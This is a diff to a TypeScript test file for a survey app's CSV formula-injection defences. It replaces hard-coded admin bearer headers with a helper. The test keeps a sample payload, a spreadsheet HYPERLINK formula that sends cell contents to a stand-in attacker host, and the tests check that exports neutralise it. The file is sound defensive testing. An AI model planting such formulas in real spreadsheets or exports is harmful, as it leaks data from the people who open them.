@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import { csvRecords, parseCsv } from '../csv-reader.ts';
-import { fullAnswers, get, getJson, request, submit } from '../helpers.ts';
+import { adminHeaders, fullAnswers, get, getJson, JSON_BODY, request, submit } from '../helpers.ts';
 
 // Text an editor might type that a spreadsheet would run as a formula (OWASP "CSV injection").
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
@@ -10,7 +10,7 @@ const PLUS = '+1+1';
 
 const LIST = 'csv-injection-2024';
 const TOWN = 'beijing-csvceshizhen';
-const ADMIN = { Authorization: 'Bearer test-admin-token', 'Content-Type': 'application/json' };
+const ADMIN = adminHeaders('admin', JSON_BODY);
 
 async function admin(method: string, path: string, body: unknown): Promise<any> {
   const res = await request(method, path, { headers: ADMIN, body: JSON.stringify(body) });
@@ -104,7 +104,7 @@ describe('CSV formula injection (issue 11, finding 4)', () => {
   });
 
   it('neutralises the admin raw-responses export too', async () => {
-    const text = await csvOf('/api/v1/admin/surveys/public/responses?format=csv', { Authorization: 'Bearer test-admin-token' });
+    const text = await csvOf('/api/v1/admin/surveys/public/responses?format=csv', adminHeaders('admin'));
     expect(formulaCells(text)).toEqual([]);
     const mine = csvRecords(text).find((r) => r.town_id === TOWN)!;
     expect(Object.values(JSON.parse(mine.answers!))).toContain(HYPERLINK);
